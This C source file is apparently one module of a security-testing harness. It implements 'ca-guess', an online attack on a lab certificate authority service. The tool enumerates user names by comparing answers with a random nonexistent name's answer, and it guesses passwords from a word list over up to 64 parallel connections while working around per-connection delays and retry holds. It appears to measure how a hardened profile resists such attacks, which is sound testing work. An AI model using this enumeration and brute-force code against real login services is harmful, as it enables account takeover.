/*
 * ca-guess: online guessing against the CA of seed 004.  With -n it
 * enumerates users: it asks the CA about a name nobody has (a random
 * one), then about each name of the list, and a name whose answer is not
 * that one is a user (the faithful CA says `Enter password` to a user,
 * `Username not found!` to anyone else).  With -u and -w it guesses the
 * user's password from a word list, each guess on a fresh connection (the
 * CA's wait after a wrong password is per connection), -j at a time, and
 * prints the guesses per second.  On the hardened profile every name gets
 * one answer and the name is locked out before the list gets far.
 */
#include <err.h>
#include <getopt.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "ca.h"
#include "hex.h"
#include "num.h"
#include "rand.h"

#define JOBS_MAX 64
#define RETRY_S 0.1 /* a word the hardened CA held back: tried again */
#define ANSWERS_MAX 8 /* distinct answers to a password, said once each */

static const struct option longopts[] = {
    {"jobs", required_argument, NULL, 'j'},
    {"names", required_argument, NULL, 'n'},
    {"user", required_argument, NULL, 'u'},
    {"words", required_argument, NULL, 'w'},
    {NULL, 0, NULL, 0},
};

struct slot {
	struct ca_conn c;
	size_t word; /* its index in the list */
	int step; /* 0 the prompt, 1 the answer to the name, 2 to the word */
};

struct guess {
	const char *addr, *user; /* user NULL: enumerate */
	struct ca_words list;
	char baseline[128]; /* enumerate: the answer to a name nobody has */
	char *known; /* enumerate: per name, 1 if its answer differs */
	long found; /* guess: the word that signed in, or -1 */
	unsigned long long tried, held; /* passwords checked; held back */
	size_t next, *again, nagain; /* words to try: from next, again[] */
	double wake; /* hardened: no attempt before wake */
	int locked; /* hardened: the name is locked */
	char seen[ANSWERS_MAX][128];
	size_t nseen;
};

/* The first line of the last answer (or EOF), for messages. */
static void
answer(const struct slot *s, int eof, char *out, size_t max)
{
	const char *t = eof ? "(the CA closed the connection)" : s->c.msg;

	snprintf(out, max, "%.*s", (int)strcspn(t, "\n"), t);
}

/* Says each new answer to a password once. */
static void
saw(struct guess *g, const char *a, size_t word)
{
	size_t i;

	for (i = 0; i < g->nseen; i++)
		if (strcmp(g->seen[i], a) == 0)
			return;
	if (g->nseen < ANSWERS_MAX)
		snprintf(g->seen[g->nseen++], sizeof(g->seen[0]), "%s", a);
	attack_progress("word %zu (%s): \"%s\"", word + 1, g->list.w[word], a);
}

/*
 * The hardened CA held the name back (a failure not long ago): the word
 * is tried again RETRY_S later (sooner than the CA says costs nothing: it
 * answers the same, and the first moment the hold ends is not lost).
 */
static void
held(struct guess *g, const struct slot *s)
{
	g->held++;
	g->again[g->nagain++] = s->word;
	g->wake = ca_now() + RETRY_S;
}

/* The slot's next frame (or EOF); returns 1 when its dialog is over. */
static int
advance(struct guess *g, struct slot *s, int eof)
{
	const char *w = g->list.w[s->word];
	char a[128];

	answer(s, eof, a, sizeof(a));
	if (eof && s->step < 2)
		errx(2, "%s: closed before the answer to %s", g->addr,
		    g->user ? g->user : w);
	if (s->step == 0) {
		(void)ca_send_name(&s->c, g->user ? g->user : w);
		s->step = 1;
		return 0;
	}
	if (s->step == 1 && g->user == NULL) {
		g->known[s->word] = strcmp(a, g->baseline) != 0;
		attack_progress(
		    "%s: \"%s\"%s", w, a, g->known[s->word] ? ": a user" : "");
		return 1;
	}
	if (s->step == 1 && !ca_is(&s->c, CA_ASK_PASS))
		errx(1, "%s: %s: not asked for a password: \"%s\"", g->addr,
		    g->user, a);
	if (s->step == 1) {
		ca_send(&s->c, w, strlen(w));
		s->step = 2;
		return 0;
	}
	saw(g, a, s->word);
	if (!eof && ca_starts(&s->c, CA_H_WAIT))
		held(g, s);
	else if (!eof && ca_starts(&s->c, CA_H_LOCKED))
		g->locked = 1;
	else
		g->tried++;
	if (!eof && ca_is(&s->c, CA_WELCOME) && g->found == -1)
		g->found = (long)s->word;
	return 1;
}

/* Reads what came on the slot; returns 1 when its dialog is over. */
static int
ready(struct guess *g, struct slot *s)
{
	if (ca_pull(&s->c) == 0)
		return advance(g, s, 1);
	while (ca_frame(&s->c))
		if (advance(g, s, 0))
			return 1;
	return 0;
}

/* The next word to try, or -1: none left, or not now. */
static long
pick(struct guess *g, double now)
{
	if (g->found != -1 || g->locked || now < g->wake)
		return -1;
	if (g->nagain > 0)
		return (long)g->again[--g->nagain];
	return g->next < g->list.n ? (long)g->next++ : -1;
}

/* Opens the free slots' dialogs; returns how many are open. */
static size_t
launch(struct guess *g, struct slot *slot, struct pollfd *pfd, size_t jobs)
{
	size_t i, active = 0;
	long w;

	for (i = 0; i < jobs; i++) {
		if (pfd[i].fd == -1 && (w = pick(g, ca_now())) != -1) {
			ca_open(&slot[i].c, g->addr);
			slot[i].word = (size_t)w;
			slot[i].step = 0;
			pfd[i].fd = slot[i].c.fd;
			pfd[i].events = POLLIN;
		}
		active += pfd[i].fd != -1;
	}
	return active;
}

/*
 * Every word of the list, jobs dialogs at a time, until one signs in or
 * the name is locked; a word held back is tried again after a wait.
 */
static void
run(struct guess *g, struct slot *slot, struct pollfd *pfd, size_t jobs)
{
	size_t i;
	int rv, ms, waiting;

	for (i = 0; i < jobs; i++)
		pfd[i].fd = -1;
	for (;;) {
		i = launch(g, slot, pfd, jobs);
		waiting = g->found == -1 && !g->locked && g->wake > ca_now() &&
		    (g->nagain > 0 || g->next < g->list.n);
		if (i == 0 && !waiting)
			return;
		ms = waiting ? (int)((g->wake - ca_now()) * 1000) + 1 : 10000;
		if ((rv = poll(pfd, jobs, ms)) == -1)
			err(2, "poll");
		if (rv == 0 && !waiting)
			errx(2, "%s: no answer in 10 s", g->addr);
		for (i = 0; i < jobs; i++)
			if (pfd[i].fd != -1 && pfd[i].revents != 0 &&
			    ready(g, &slot[i])) {
				ca_close(&slot[i].c);
				pfd[i].fd = -1;
			}
	}
}

/* The answer to a random name nobody has registered. */
static void
baseline(struct guess *g)
{
	static struct ca_conn c;
	uint8_t r[8];
	char name[8 + 2 * sizeof(r) + 1] = "nobody-";

	if (rand_fill(r, sizeof(r)) == -1)
		err(2, "getrandom");
	hex_encode(r, sizeof(r), name + 7);
	ca_open(&c, g->addr);
	ca_expect(&c, "the user name prompt");
	(void)ca_send_name(&c, name);
	ca_expect(&c, "the answer to a user name");
	ca_close(&c);
	snprintf(g->baseline, sizeof(g->baseline), "%.*s",
	    (int)strcspn(c.msg, "\n"), c.msg);
	attack_progress("%s (nobody): \"%s\"", name, g->baseline);
}

/* The names that got another answer than nobody's, one a line. */
static int
names_found(struct guess *g, double secs)
{
	char *out, *p;
	size_t i, n = 0, max = 1;

	/* Each name and its newline, and sprintf's NUL. */
	for (i = 0; i < g->list.n; i++)
		max += strlen(g->list.w[i]) + 1;
	if ((out = p = malloc(max)) == NULL)
		err(2, NULL);
	for (i = 0; i < g->list.n; i++)
		if (g->known[i]) {
			p += sprintf(p, "%s\n", g->list.w[i]);
			n++;
		}
	attack_progress("%zu names in %.2f s: %.1f names per second, %zu"
			" users found",
	    g->list.n, secs, g->list.n / secs, n);
	if (n == 0)
		attack_progress("every name got the answer of a name nobody"
				" has: nothing recovered");
	else
		attack_output((uint8_t *)out, (size_t)(p - out));
	attack_stats(g->list.n + 1, (size_t)(p - out));
	free(out);
	return n == 0;
}

/* The word that signed in, and a newline (as a --pass-file has it). */
static int
word_found(struct guess *g, double secs)
{
	const char *w;
	char *out;
	size_t len = 0;

	attack_progress("%llu guesses in %.2f s: %.1f guesses per second",
	    g->tried, secs, g->tried / secs);
	if (g->held > 0)
		attack_progress(
		    "%llu attempts held back by the CA (tried again)", g->held);
	if (g->locked)
		attack_progress("%s is locked: the CA checks no more of its"
				" passwords",
		    g->user);
	if (g->found == -1) {
		attack_progress("no word of the list signed in as %s: nothing"
				" recovered",
		    g->user);
		attack_stats(g->tried + g->held, 0);
		return 1;
	}
	w = g->list.w[g->found];
	attack_progress(
	    "%s's password: guess %ld of the list", g->user, g->found + 1);
	if ((out = malloc(strlen(w) + 2)) == NULL)
		err(2, NULL);
	len = (size_t)sprintf(out, "%s\n", w);
	attack_stats(g->tried + g->held, len);
	attack_output((uint8_t *)out, len);
	free(out);
	return 0;
}

static int
ca_guess_main(int argc, char *argv[])
{
	struct guess g = {.found = -1};
	const char *names = NULL, *words = NULL, *errstr;
	struct slot *slot;
	struct pollfd pfd[JOBS_MAX];
	size_t jobs = 4;
	double t0;
	int ch, rv;

	while ((ch = attack_getopt(argc, argv, "j:n:u:w:", longopts)) != -1)
		switch (ch) {
		case 'j':
			jobs = (size_t)num_parse(optarg, 1, JOBS_MAX, &errstr);
			if (errstr != NULL)
				errx(2, "-j %s: %s", optarg, errstr);
			break;
		case 'n':
			names = optarg;
			break;
		case 'u':
			g.user = optarg;
			break;
		case 'w':
			words = optarg;
			break;
		}
	argc -= optind;
	argv += optind;
	if (argc != 1 || (names == NULL) == (words == NULL) ||
	    (words != NULL) != (g.user != NULL))
		attack_usage();
	if (g.user != NULL && !x509_cn_safe(g.user))
		errx(2, "-u %s: not a user name", g.user);
	g.addr = argv[0];
	ca_words_read(&g.list, names ? names : words, names != NULL);
	if (g.list.n == 0)
		errx(2, "%s: no words", names ? names : words);
	if ((slot = calloc(jobs, sizeof(*slot))) == NULL ||
	    (g.known = calloc(g.list.n, 1)) == NULL ||
	    (g.again = calloc(g.list.n, sizeof(*g.again))) == NULL)
		err(2, NULL);
	if (names != NULL)
		baseline(&g);
	t0 = ca_now();
	run(&g, slot, pfd, jobs);
	rv = names ? names_found(&g, ca_now() - t0)
		   : word_found(&g, ca_now() - t0);
	free(g.again);
	free(g.known);
	free(slot);
	ca_words_free(&g.list);
	return rv;
}

const struct attack attack_ca_guess = {
    "ca-guess",
    "[-j jobs] -n names | -u user -w words host:port",
    "ca: user names enumerated, a password guessed online, guesses per"
    " second",
    "  -j, --jobs n       connections at once (1 to 64; default 4)\n"
    "  -n, --names file   names to try, one a line: the users are written\n"
    "  -u, --user name    the user whose password is guessed\n"
    "  -w, --words file   passwords to try, one a line: the one that\n"
    "                     signs in is written, with a newline\n"
    "  host:port          the CA (pk-relay's ca service)\n",
    ca_guess_main,
};
